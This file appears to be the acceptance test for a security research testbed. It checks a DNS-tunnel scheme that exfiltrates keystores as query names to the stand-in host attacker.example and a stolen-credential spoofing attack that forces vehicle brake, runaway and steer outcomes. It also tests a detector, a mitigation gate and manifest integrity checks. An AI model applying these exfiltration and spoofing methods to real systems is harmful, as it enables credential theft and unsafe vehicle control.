// Acceptance gate: ten end-to-end criteria, one PASS/FAIL line each.
// Exits nonzero if any criterion fails. Where a criterion carries a time
// budget the wall clock is part of the verdict.

#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <random>
#include <string>
#include <variant>
#include <vector>

#include "trustbench/trustbench.hpp"

using namespace trustbench;
namespace fs = std::filesystem;

namespace {

int g_failures = 0;

void report(int number, const std::string& name, bool pass, const std::string& detail) {
  std::printf("%s criterion-%d: %s%s%s\n", pass ? "PASS" : "FAIL", number, name.c_str(),
              detail.empty() ? "" : " — ", detail.c_str());
  std::fflush(stdout);
  if (!pass) ++g_failures;
}

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

std::string fmt(double v) {
  char buf[64];
  std::snprintf(buf, sizeof(buf), "%.3f", v);
  return buf;
}

// ---------------------------------------------------------------------------
// 1. Round trip: 200 random keystores exfiltrated as query names, shuffled
//    and partially duplicated, reassemble to the exact fingerprint; a dropped
//    chunk must be detected instead. Budget: 30 s.

void criterion_1() {
  const auto start = std::chrono::steady_clock::now();
  std::mt19937 rng(1001);
  int trees_ok = 0;
  int drops_ok = 0;
  std::string failure;

  for (int trial = 0; trial < 200 && failure.empty(); ++trial) {
    const std::size_t enclave_count = 1 + rng() % 6;
    std::vector<std::string> enclaves;
    for (std::size_t i = 0; i < enclave_count; ++i) {
      enclaves.push_back("node_" + std::to_string(rng() % 1000) + "_" +
                         std::to_string(i));
    }
    const auto tree = keystore::create_keystore("store", enclaves, rng());

    exfil::ExfilConfig cfg;
    cfg.chunk_size = 1 + rng() % 63;
    exfil::MemorySink sink;
    exfil::exfiltrate_tree(tree, cfg, sink);

    std::vector<std::string> names;
    names.reserve(sink.datagrams().size());
    for (const auto& wire : sink.datagrams()) {
      names.push_back(dns::parse_dns_query(wire).qname);
    }
    std::shuffle(names.begin(), names.end(), rng);

    const bool drop_one = trial % 10 == 9;
    std::string dropped;
    if (drop_one) {
      // Drop one data chunk (never a header) so the gap is knowable.
      for (std::size_t i = 0; i < names.size(); ++i) {
        const auto c = exfil::classify_query_name(names[i], cfg.zone);
        if (std::holds_alternative<exfil::DataChunkRecord>(c)) {
          dropped = names[i];
          names.erase(names.begin() + static_cast<std::ptrdiff_t>(i));
          break;
        }
      }
    } else {
      // Duplicate a sample of the traffic instead.
      const std::size_t original = names.size();
      for (std::size_t i = 0; i < original / 4; ++i) {
        names.push_back(names[rng() % original]);
      }
      std::shuffle(names.begin(), names.end(), rng);
    }

    exfil::ReassemblyState state;
    for (const auto& name : names) state.ingest_name(name, cfg.zone);

    if (drop_one) {
      try {
        state.reconstruct_tree(cfg.session, "recovered");
        failure = "trial " + std::to_string(trial) +
                  ": reconstruction succeeded despite dropped chunk";
      } catch (const IncompleteError&) {
        ++drops_ok;
      }
    } else {
      try {
        const auto rebuilt = state.reconstruct_tree(cfg.session, "recovered");
        if (!(keystore::fingerprint_of(rebuilt) == keystore::fingerprint_of(tree))) {
          failure = "trial " + std::to_string(trial) + ": fingerprint mismatch";
        } else {
          ++trees_ok;
        }
      } catch (const Error& e) {
        failure = "trial " + std::to_string(trial) + ": " + e.what();
      }
    }
  }

  const double elapsed = seconds_since(start);
  const bool pass = failure.empty() && trees_ok == 180 && drops_ok == 20 &&
                    elapsed <= 30.0;
  report(1, "keystore exfiltration round trip (200 trees, 30 s budget)", pass,
         failure.empty()
             ? std::to_string(trees_ok) + " rebuilt, " + std::to_string(drops_ok) +
                   " drops caught in " + fmt(elapsed) + " s"
             : failure);
}

// ---------------------------------------------------------------------------
// 2. Canonical query name: a permissions transfer whose final chunk renders
//    byte-identically to the documented example name.

void criterion_2() {
  const std::string expected = "perm.Y2hhbmtfYmxvY2tfMDAxPw==.001.a1.attacker.example";
  // 24 bytes then "chank_block_001?": the base64 boundary lands exactly on
  // the 32-char chunk edge, leaving the documented payload as chunk 1 of 2.
  const std::string content_text = "chank_block_000?chank_bl" "chank_block_001?";
  const std::vector<std::uint8_t> content(content_text.begin(), content_text.end());

  std::string got;
  std::string detail;
  try {
    const auto file =
        dns::chunk_file("permissions.xml", content, dns::FileTag("perm"), 32);
    got = dns::build_query_name(file, 1, dns::SessionToken("a1"), "attacker.example")
              .render();
  } catch (const Error& e) {
    detail = e.what();
  }

  bool parse_ok = false;
  if (got == expected) {
    const auto parsed = dns::parse_query_name(expected, "attacker.example");
    parse_ok = parsed && parsed->tag.str() == "perm" && parsed->chunk_index == 1 &&
               parsed->chunk_data == "Y2hhbmtfYmxvY2tfMDAxPw==" &&
               parsed->session.str() == "a1";
  }
  const bool pass = got == expected && parse_ok;
  report(2, "canonical covert query name", pass,
         pass ? "rendered and reparsed byte-identically"
              : (detail.empty() ? "got '" + got + "'" : detail));
}

// ---------------------------------------------------------------------------
// 3. Grammar torture: 10k built names parse back exactly; chunk counts obey
//    ceil(b64len/chunk); 10k hostile names and datagrams never crash.

void criterion_3() {
  std::mt19937 rng(3003);
  std::string failure;
  std::size_t names_checked = 0;

  while (names_checked < 10000 && failure.empty()) {
    std::vector<std::uint8_t> content(1 + rng() % 700);
    for (auto& b : content) b = static_cast<std::uint8_t>(rng());
    const std::size_t chunk_size = 1 + rng() % 63;
    std::string tag(1 + rng() % 8, 'a');
    for (auto& c : tag) c = "abcdefghijklmnopqrstuvwxyz0123456789"[rng() % 36];
    std::string session(2 + rng() % 7, 'a');
    for (auto& c : session) c = "abcdefghijklmnopqrstuvwxyz0123456789"[rng() % 36];

    const auto file = dns::chunk_file("f", content, dns::FileTag(tag), chunk_size);
    const std::size_t b64_len = 4 * ((content.size() + 2) / 3);
    const std::size_t want_chunks = (b64_len + chunk_size - 1) / chunk_size;
    if (file.total_chunks() != want_chunks) {
      failure = "chunk count " + std::to_string(file.total_chunks()) + " != ceil -> " +
                std::to_string(want_chunks);
      break;
    }
    for (std::size_t i = 0; i < file.total_chunks() && names_checked < 10000; ++i) {
      const auto name =
          dns::build_query_name(file, i, dns::SessionToken(session), "attacker.example");
      const std::string rendered = name.render();
      if (rendered.size() > dns::kMaxNameLength) {
        failure = "name too long: " + std::to_string(rendered.size());
        break;
      }
      const auto parsed = dns::parse_query_name(rendered, "attacker.example");
      if (!parsed || parsed->tag.str() != tag || parsed->chunk_index != i ||
          parsed->chunk_data != file.chunks[i] || parsed->session.str() != session) {
        failure = "round trip broke on '" + rendered + "'";
        break;
      }
      ++names_checked;
    }
  }

  // Hostile side: random strings and datagrams must be rejected or ignored,
  // never accepted into a transfer or allowed to throw past the API edge.
  std::size_t hostile = 0;
  if (failure.empty()) {
    exfil::ReassemblyState state;
    for (int i = 0; i < 10000; ++i) {
      std::string junk;
      const std::size_t len = rng() % 80;
      for (std::size_t j = 0; j < len; ++j) {
        junk += static_cast<char>('!' + rng() % 94);
      }
      try {
        (void)dns::parse_query_name(junk, "attacker.example");
      } catch (const ParseError&) {
      } catch (const std::exception& e) {
        failure = std::string("unexpected exception type: ") + e.what();
        break;
      }
      std::vector<std::uint8_t> wire(rng() % 64);
      for (auto& b : wire) b = static_cast<std::uint8_t>(rng());
      const auto event = state.ingest_wire(wire, "attacker.example");
      (void)event;
      ++hostile;
    }
    if (failure.empty() && !state.sessions().empty()) {
      failure = "random garbage opened a transfer session";
    }
  }

  const bool pass = failure.empty() && names_checked == 10000 && hostile == 10000;
  report(3, "query grammar fuzz (10k names, 10k hostile inputs)", pass,
         pass ? "all round trips exact, no crashes" : failure);
}

// ---------------------------------------------------------------------------
// 4. Admission gating: matching fingerprint admits, anything else is denied
//    every capability, and a forged handle cannot self-upgrade.

void criterion_4() {
  std::string failure;
  try {
    const auto victim = keystore::create_keystore("store", scenario::victim_enclaves(), 1);
    const auto other = keystore::create_keystore("store", scenario::victim_enclaves(), 2);
    graph::SecureGraph<int> bus(keystore::fingerprint_of(victim));

    const auto good = bus.join("good", "camera_node", victim);
    keystore::KeystoreTree copy("elsewhere", victim.ca(), victim.enclaves());
    const auto thief = bus.join("thief", "camera_node", copy);
    const auto outsider = bus.join("outsider", "camera_node", other);

    if (!good.authenticated) failure = "legitimate tree rejected";
    if (failure.empty() && !thief.authenticated) {
      failure = "byte-identical copy rejected (admission must hash contents only)";
    }
    if (failure.empty() && outsider.authenticated) failure = "foreign tree admitted";

    if (failure.empty()) {
      bus.advertise(good, "/t");
      bus.publish(good, "/t", 1);
      bus.advertise(thief, "/t");
      bus.publish(thief, "/t", 2);
      const auto got = bus.sample_latest(good, "/t");
      if (!got || got->publisher != "thief") {
        failure = "stolen-credential publish did not take the topic";
      }
    }
    if (failure.empty()) {
      int denied = 0;
      try { bus.advertise(outsider, "/t"); } catch (const AccessDeniedError&) { ++denied; }
      try { bus.publish(outsider, "/t", 3); } catch (const AccessDeniedError&) { ++denied; }
      try { (void)bus.sample_latest(outsider, "/t"); } catch (const AccessDeniedError&) { ++denied; }
      if (denied != 3 || !bus.list_topics(outsider).empty()) {
        failure = "unauthenticated caller retained a capability";
      }
    }
    if (failure.empty()) {
      auto forged = outsider;
      forged.authenticated = true;
      forged.presented = keystore::fingerprint_of(victim);
      try {
        bus.publish(forged, "/t", 4);
        failure = "forged handle bypassed stored authentication state";
      } catch (const AccessDeniedError&) {
      }
    }
  } catch (const std::exception& e) {
    failure = e.what();
  }
  report(4, "fingerprint admission gating", failure.empty(),
         failure.empty() ? "possession admits, everything else denied" : failure);
}

// ---------------------------------------------------------------------------
// 5. The attack matrix: six scenarios land on their designed classifications.
//    Budget: 10 s for the whole table.

void criterion_5() {
  const auto start = std::chrono::steady_clock::now();
  std::string failure;
  for (const std::string name : {"none", "brake", "runaway", "steer", "phantom",
                                 "suppress"}) {
    scenario::ScenarioConfig cfg;
    cfg.spoof = scenario::make_named_spoof(name, cfg.params);
    const auto result = scenario::run_scenario(cfg);
    const auto want = scenario::expected_classification(name);
    if (result.outcome.classification != want) {
      failure = name + ": got " +
                std::string(scenario::to_string(result.outcome.classification)) +
                ", wanted " + std::string(scenario::to_string(want));
      break;
    }
  }
  const double elapsed = seconds_since(start);
  const bool pass = failure.empty() && elapsed < 10.0;
  report(5, "attack outcome matrix (6 scenarios, 10 s budget)", pass,
         failure.empty() ? "all classifications as designed in " + fmt(elapsed) + " s"
                         : failure);
}

// ---------------------------------------------------------------------------
// 6. Determinism: re-running any scenario yields a bit-identical trace.

void criterion_6() {
  std::string failure;
  for (const std::string name : {"none", "brake", "runaway", "steer", "phantom",
                                 "suppress"}) {
    scenario::ScenarioConfig cfg;
    cfg.spoof = scenario::make_named_spoof(name, cfg.params);
    const auto a = scenario::run_scenario(cfg);
    const auto b = scenario::run_scenario(cfg);
    if (scenario::render_trace(a.trace) != scenario::render_trace(b.trace)) {
      failure = name + ": two identical runs rendered different traces";
      break;
    }
    if (!(a.trace == b.trace)) {
      failure = name + ": trace rows differ between identical runs";
      break;
    }
  }
  report(6, "bit-identical reruns", failure.empty(),
         failure.empty() ? "6/6 scenarios render byte-equal traces" : failure);
}

// ---------------------------------------------------------------------------
// 7. Read dominance: at the full tick rate every victim read during the
//    attack window must return the forged sample (>= 95%).

void criterion_7() {
  std::string failure;
  std::string detail;
  for (const std::string name : {"brake", "runaway", "steer", "phantom", "suppress"}) {
    scenario::ScenarioConfig cfg;
    cfg.spoof = scenario::make_named_spoof(name, cfg.params);
    const auto result = scenario::run_scenario(cfg);
    const double dom = result.spoof_read_dominance();
    if (!detail.empty()) detail += ", ";
    detail += name + "=" + fmt(dom);
    if (dom < 0.95) {
      failure = name + ": dominance " + fmt(dom) + " < 0.95";
      break;
    }
    if (result.spoof_denied != 0) {
      failure = name + ": stolen credentials were denied";
      break;
    }
  }
  report(7, "same-rate spoof read dominance >= 95%", failure.empty(),
         failure.empty() ? detail : failure);
}

// ---------------------------------------------------------------------------
// 8. Detector rates: 20 generated attack logs all flagged (TPR = 1.0) and
//    at most one of 20 benign logs flagged (FPR <= 0.05).

void criterion_8() {
  std::mt19937 rng(8008);
  std::vector<std::vector<defense::DnsObservation>> attacks;
  for (int i = 0; i < 20; ++i) {
    std::vector<std::string> enclaves;
    const std::size_t n = 1 + i % 3;
    for (std::size_t k = 0; k < n; ++k) {
      enclaves.push_back("node_" + std::to_string(i) + "_" + std::to_string(k));
    }
    const auto tree = keystore::create_keystore("store", enclaves, 100 + i);
    exfil::ExfilConfig cfg;
    cfg.session = dns::SessionToken("s" + std::to_string(10 + i));
    exfil::MemorySink sink;
    exfil::exfiltrate_tree(tree, cfg, sink);

    std::vector<defense::DnsObservation> log;
    double t = 1000.0 * i;
    const double spacing = 0.005 + 0.001 * (i % 10);
    for (const auto& wire : sink.datagrams()) {
      log.push_back({t, "10.0.0.7:4000", dns::parse_dns_query(wire).qname});
      t += spacing;
    }
    attacks.push_back(std::move(log));
  }

  // Benign corpus: repeated lookups of a small stable set of low-entropy
  // names at browsing pace.
  const std::vector<std::string> hosts = {
      "www.vendor.example",   "api.vendor.example",  "cdn.vendor.example",
      "updates.fleet.example", "time.fleet.example", "maps.fleet.example",
      "telemetry.fleet.example"};
  std::vector<std::vector<defense::DnsObservation>> benign;
  for (int i = 0; i < 20; ++i) {
    std::vector<defense::DnsObservation> log;
    double t = 500.0 * i;
    const int lookups = 40 + static_cast<int>(rng() % 200);
    for (int k = 0; k < lookups; ++k) {
      log.push_back({t, "10.0.0.9:5000", hosts[rng() % hosts.size()]});
      t += 0.3 + (rng() % 1000) / 500.0;  // 0.3 .. 2.3 s between lookups
    }
    benign.push_back(std::move(log));
  }

  std::string failure;
  defense::DetectorEvaluation eval;
  try {
    eval = defense::evaluate_detector(benign, attacks, 10.0,
                                      defense::DetectorThresholds{});
  } catch (const Error& e) {
    failure = e.what();
  }
  const bool pass = failure.empty() && eval.true_positive_rate == 1.0 &&
                    eval.false_positive_rate <= 0.05;
  report(8, "detector rates (TPR = 1.0, FPR <= 0.05 over 20+20 logs)", pass,
         failure.empty() ? "tpr=" + fmt(eval.true_positive_rate) +
                               " fpr=" + fmt(eval.false_positive_rate)
                         : failure);
}

// ---------------------------------------------------------------------------
// 9. Mitigation: the plausibility gate stops the runaway crash and rejects
//    nothing on a clean run (identical trace with the gate armed).

void criterion_9() {
  std::string failure;

  scenario::ScenarioConfig cfg;
  cfg.spoof = scenario::make_named_spoof("runaway", cfg.params);
  const auto raw = scenario::run_scenario(cfg);
  cfg.mitigate = true;
  const auto gated = scenario::run_scenario(cfg);

  if (raw.outcome.classification != scenario::Classification::overspeed_crash) {
    failure = "unmitigated runaway no longer crashes: baseline broken";
  } else if (gated.outcome.classification == scenario::Classification::overspeed_crash) {
    failure = "gate failed to stop the runaway crash";
  } else if (gated.gate_rejections == 0) {
    failure = "gate reported no rejections while under attack";
  }

  if (failure.empty()) {
    scenario::ScenarioConfig clean;
    const auto plain = scenario::run_scenario(clean);
    clean.mitigate = true;
    const auto gated_clean = scenario::run_scenario(clean);
    if (gated_clean.gate_rejections != 0) {
      failure = "gate rejected " + std::to_string(gated_clean.gate_rejections) +
                " legitimate samples";
    } else if (scenario::render_trace(gated_clean.trace) !=
               scenario::render_trace(plain.trace)) {
      failure = "armed gate changed clean-run behaviour";
    }
  }

  report(9, "plausibility gate: stops runaway, zero false rejections", failure.empty(),
         failure.empty()
             ? "runaway downgraded to " +
                   std::string(scenario::to_string(gated.outcome.classification)) +
                   ", clean run untouched"
             : failure);
}

// ---------------------------------------------------------------------------
// 10. Manifest integrity: 1000 single-byte mutations, a deletion, and an
//     addition are all detected; the untouched tree verifies clean.

void criterion_10() {
  std::string failure;
  const fs::path root =
      fs::temp_directory_path() /
      ("trustbench_accept_" + std::to_string(std::random_device{}()));
  fs::create_directories(root);

  try {
    const auto tree =
        keystore::create_keystore("store", scenario::victim_enclaves(), 42);
    keystore::save_tree(tree, root);
    const fs::path pkg = root / "store";
    const auto manifest = defense::build_manifest(pkg);

    if (!defense::verify_manifest(pkg, manifest).clean) {
      failure = "fresh tree did not verify clean";
    }

    std::vector<fs::path> files;
    for (const auto& entry : fs::recursive_directory_iterator(pkg)) {
      if (entry.is_regular_file()) files.push_back(entry.path());
    }

    std::mt19937 rng(1010);
    int caught = 0;
    for (int i = 0; i < 1000 && failure.empty(); ++i) {
      const fs::path& target = files[rng() % files.size()];
      auto bytes = keystore::detail_io::read_file(target);
      const std::size_t at = rng() % bytes.size();
      const std::uint8_t flip =
          static_cast<std::uint8_t>(1 << (rng() % 8));
      bytes[at] ^= flip;
      keystore::detail_io::write_file(target, bytes);

      const auto result = defense::verify_manifest(pkg, manifest);
      const std::string rel = target.lexically_relative(pkg).generic_string();
      if (result.discrepancies.size() == 1 &&
          result.discrepancies[0].kind == defense::Discrepancy::Kind::modified &&
          result.discrepancies[0].relative_path == rel) {
        ++caught;
      } else {
        failure = "mutation " + std::to_string(i) + " in " + rel +
                  " was not pinpointed";
      }

      bytes[at] ^= flip;  // restore
      keystore::detail_io::write_file(target, bytes);
    }

    if (failure.empty()) {
      fs::remove(pkg / "ca.cert.pem");
      auto result = defense::verify_manifest(pkg, manifest);
      if (result.discrepancies.size() != 1 ||
          result.discrepancies[0].kind != defense::Discrepancy::Kind::missing) {
        failure = "deleted file not reported missing";
      }
      keystore::detail_io::write_file(pkg / "ca.cert.pem", tree.ca().content);

      std::ofstream(pkg / "implant.so") << "payload";
      result = defense::verify_manifest(pkg, manifest);
      if (failure.empty() &&
          (result.discrepancies.size() != 1 ||
           result.discrepancies[0].kind != defense::Discrepancy::Kind::unexpected)) {
        failure = "added file not reported unexpected";
      }
      fs::remove(pkg / "implant.so");

      if (failure.empty() && !defense::verify_manifest(pkg, manifest).clean) {
        failure = "restored tree did not verify clean";
      }
      if (failure.empty() && caught != 1000) {
        failure = "only " + std::to_string(caught) + "/1000 mutations caught";
      }
    }
  } catch (const std::exception& e) {
    failure = e.what();
  }

  std::error_code ec;
  fs::remove_all(root, ec);
  report(10, "manifest catches 1000 bit flips plus drop/add", failure.empty(),
         failure.empty() ? "1000/1000 pinpointed, drop and add detected" : failure);
}

}  // namespace

int main() {
  std::printf("trustbench acceptance gate\n");
  criterion_1();
  criterion_2();
  criterion_3();
  criterion_4();
  criterion_5();
  criterion_6();
  criterion_7();
  criterion_8();
  criterion_9();
  criterion_10();
  if (g_failures == 0) {
    std::printf("all 10 criteria passed\n");
    return 0;
  }
  std::printf("%d criteria FAILED\n", g_failures);
  return 1;
}
